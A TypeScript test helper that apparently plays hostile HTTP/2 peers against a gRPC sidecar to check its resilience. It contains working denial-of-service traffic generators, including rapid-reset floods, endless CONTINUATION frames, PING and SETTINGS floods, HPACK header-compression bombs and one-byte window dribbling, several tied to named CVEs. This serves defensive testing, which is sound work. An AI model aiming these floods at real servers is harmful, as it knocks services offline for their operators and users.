// What hostile peers do to a sidecar, each as a function that ends when the attack has: rows 3, 5 to 8 and 33.
import type { Sidecar } from "../../integration/sidecar.ts";
import { callHeaders, PING, RawConnection, type StreamEnd } from "./connection.ts";
import { ERROR, FLAG, FRAME, frame, headerBlock, headerFrames, indexedHeader, message, NEWEST_ENTRY, reset, settings, SETTING, windowUpdate } from "./frames.ts"; // prettier-ignore
import { seenClosing, type WireSeen } from "./seen.ts";

export type Address = Pick<Sidecar, "address">;

const block = headerBlock(callHeaders("/grpc.health.v1.Health/Check"));

/** 200,000 calls, each reset at once. */
export async function resets({ address }: Address): Promise<WireSeen> {
  const connection = await RawConnection.open(address);
  return flood(connection, 400, () =>
    Buffer.concat(
      Array.from({ length: 500 }, () => connection.newStream()).flatMap((stream) => [
        headerFrames(stream, block, false),
        reset(stream),
      ]),
    ),
  );
}

export async function endlessHeaders({ address }: Address): Promise<WireSeen> {
  const connection = await RawConnection.open(address);
  await connection.send(frame(FRAME.headers, 0, connection.newStream(), block));
  const more = frame(FRAME.continuation, 0, 1, headerBlock([["x-more", "x".repeat(1_000)]]));
  return flood(connection, 100_000, () => more);
}

/** A million, and nobody reads the acknowledgements. */
export async function settingsFlood({ address }: Address): Promise<WireSeen> {
  const connection = await RawConnection.open(address, { reads: false });
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => settings()));
  return flood(connection, 1_000, () => many);
}

/** A million. */
export async function pingFlood({ address }: Address, { reads }: { readonly reads: boolean }): Promise<WireSeen> {
  const connection = await RawConnection.open(address, { reads });
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => PING));
  return flood(connection, 1_000, () => many);
}

/** What is read in one go is counted in one go, whatever else the server is about. */
export async function pingsAtOnce({ address }: Address): Promise<WireSeen> {
  const connection = await RawConnection.open(address);
  await connection.request(callHeaders("/grpc.health.v1.Health/Check"), message(Buffer.alloc(0)));
  return flood(connection, 1, () => Buffer.concat(Array.from({ length: 3_000 }, () => PING)));
}

/** On 2,000 connections, a hundred at a time. */
export async function overflowingWindows({ address }: Address): Promise<readonly WireSeen[]> {
  const one = async (): Promise<WireSeen> => {
    const connection = await RawConnection.open(address);
    await connection.send(windowUpdate(0, 0x7fff_ffff));
    return seenClosing(connection);
  };
  const ends: WireSeen[] = [];
  for (let round = 0; round < 20; round++) ends.push(...(await Promise.all(Array.from({ length: 100 }, one))));
  return ends;
}

/** Ten times 400 calls whose headers are `repeats` times one of 4,000 bytes, and a byte each on the wire. */
export async function unpackingHeaders({ address }: Address, repeats: number): Promise<readonly StreamEnd[]> {
  const connections = await Promise.all(Array.from({ length: 10 }, () => RawConnection.open(address, { window: 0 })));
  for (const connection of connections)
    await connection.request(callHeaders("/no.such/Method"), message(Buffer.alloc(0))); // its answer comes after the server's SETTINGS
  const ends = await Promise.all(connections.map((connection) => unpacking(connection, repeats)));
  for (const connection of connections) connection.close();
  return ends.flat();
}

/** The same from peers that have not acknowledged what SETTINGS allow. */
export async function unpackingBeforeSettings({ address }: Address, repeats: number): Promise<readonly WireSeen[]> {
  const silent = { window: 0, acknowledges: false };
  const connections = await Promise.all(Array.from({ length: 10 }, () => RawConnection.open(address, silent)));
  await Promise.all(connections.map((connection) => unpacking(connection, repeats)));
  return Promise.all(connections.map(seenClosing));
}

/** Calls on a connection that never opens a window. */
export async function unread({ address }: Address, path: string, count: number): Promise<readonly StreamEnd[]> {
  const connection = await RawConnection.open(address, { window: 0 });
  const ends = await Promise.all(
    Array.from({ length: count }, () => connection.request(callHeaders(path), message(Buffer.alloc(0)))),
  );
  connection.close();
  return ends;
}

/** Opens stream after stream and makes a mistake on each, for which the server resets it (CVE-2025-8671). */
export async function mistakes({ address }: Address, mistake: (stream: number) => Buffer): Promise<WireSeen> {
  const connection = await RawConnection.open(address);
  const streams = (): number[] => Array.from({ length: 500 }, () => connection.newStream());
  return flood(connection, 400, () => Buffer.concat(streams().map(mistake)));
}

export const windowOfNothing = (stream: number): Buffer =>
  Buffer.concat([headerFrames(stream, block, false), windowUpdate(stream, 0)]);

export const longerThanPromised = (stream: number): Buffer =>
  Buffer.concat([
    headerFrames(stream, headerBlock([...callHeaders("/grpc.health.v1.Health/Check"), ["content-length", "1"]]), false),
    frame(FRAME.data, 0, stream, Buffer.alloc(2)),
  ]);

export const nameless = (stream: number): Buffer =>
  headerFrames(stream, Buffer.concat([block, headerBlock([["", "x"]])]), true);

/** Of one frame a million, behind a request that is not whole. */
export async function frames({ address }: Address, bytes: Buffer): Promise<WireSeen> {
  const connection = await RawConnection.open(address);
  await connection.send(headerFrames(connection.newStream(), block, false));
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => bytes));
  return flood(connection, 1_000, () => many);
}

export async function emptyContinuations({ address }: Address): Promise<WireSeen> {
  const connection = await RawConnection.open(address);
  await connection.send(frame(FRAME.headers, 0, connection.newStream(), block));
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => frame(FRAME.continuation, 0, 1)));
  return flood(connection, 1_000, () => many);
}

/** Windows go to and fro under calls that have answers to send. */
export async function restlessWindows({ address }: Address, path: string): Promise<WireSeen> {
  const connection = await RawConnection.open(address, { window: 0 });
  const request = Array.from({ length: 400 }, () => connection.newStream()).flatMap((stream) => [
    headerFrames(stream, headerBlock(callHeaders(path)), false),
    frame(FRAME.data, FLAG.endStream, stream, message(Buffer.alloc(0))),
  ]);
  await connection.send(...request);
  const changes = [1, 0].map((window) => settings([[SETTING.initialWindowSize, window]]));
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => changes).flat());
  return flood(connection, 500, () => many);
}

/** A frame's fill of changes of all windows, again and again, under calls that are not whole (CVE-2020-11080). */
export async function manySettings({ address }: Address): Promise<WireSeen> {
  const connection = await RawConnection.open(address);
  await connection.request(callHeaders("/grpc.health.v1.Health/Check"), message(Buffer.alloc(0)));
  await connection.send(...Array.from({ length: 900 }, () => headerFrames(connection.newStream(), block, false)));
  const full = settings(Array.from({ length: 2_730 }, (_, i) => [SETTING.initialWindowSize, i % 2]));
  return flood(connection, 900, () => full);
}

/** A million of a byte, for a stream and for the connection; then the connection still answers. */
export async function windowUpdates({ address }: Address): Promise<StreamEnd> {
  const connection = await RawConnection.open(address, { narrow: true, window: 65_535 });
  const stream = connection.newStream();
  await connection.send(headerFrames(stream, block, false));
  const both = Buffer.concat([windowUpdate(0, 1), windowUpdate(stream, 1)]);
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => both));
  for (let i = 0; i < 500; i++) await connection.send(many);
  const end = await connection.request(callHeaders("/grpc.health.v1.Health/Check"), message(Buffer.alloc(0)));
  connection.close();
  return end;
}

/** Calls whose windows open by a byte, for as long as they last (CVE-2019-9511). */
export async function dribbled({ address }: Address, path: string, count: number): Promise<readonly StreamEnd[]> {
  const connection = await RawConnection.open(address, { window: 0 });
  const streams = Array.from({ length: count }, () => connection.newStream());
  const ends = Promise.all(streams.map((stream) => connection.end(stream)));
  for (const stream of streams)
    await connection.send(
      headerFrames(stream, headerBlock(callHeaders(path)), false),
      frame(FRAME.data, FLAG.endStream, stream, message(Buffer.alloc(0))),
    );
  let isOver = false;
  void ends.then(() => (isOver = true));
  while (!isOver) {
    await connection.send(...streams.map((stream) => windowUpdate(stream, 1)));
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
  connection.close();
  return ends;
}

/** A hundred blocks of nothing but changes of the table's size, as long as a block may be. */
export async function tableSizes({ address }: Address): Promise<readonly StreamEnd[]> {
  const connection = await RawConnection.open(address);
  const updates = Buffer.alloc(250_000, 0x20);
  const streams = Array.from({ length: 100 }, () => connection.newStream());
  const ends = Promise.all(streams.map((stream) => connection.end(stream)));
  for (const stream of streams) await connection.send(headerFrames(stream, updates, true));
  const all = await ends;
  connection.close();
  return all;
}

/** Sends the same again and again, until the server closes or it has been sent often enough. */
async function flood(connection: RawConnection, times: number, bytes: () => Buffer): Promise<WireSeen> {
  let open = true;
  void connection.closed.then(() => (open = false));
  for (let i = 0; i < times && open; i++) await connection.send(bytes());
  return seenClosing(connection);
}

async function unpacking(connection: RawConnection, repeats: number): Promise<readonly StreamEnd[]> {
  const first = Buffer.concat([block, indexedHeader("x-bomb", "x".repeat(4_000))]);
  const bomb = Buffer.concat([block, Buffer.alloc(repeats, NEWEST_ENTRY)]);
  const opening = connection.newStream();
  await connection.send(headerFrames(opening, first, false), reset(opening, ERROR.cancel));
  const streams = Array.from({ length: 400 }, () => connection.newStream());
  const ends = Promise.all(streams.map((stream) => connection.end(stream)));
  for (const stream of streams) await connection.send(frame(FRAME.headers, FLAG.endHeaders, stream, bomb));
  return ends;
}
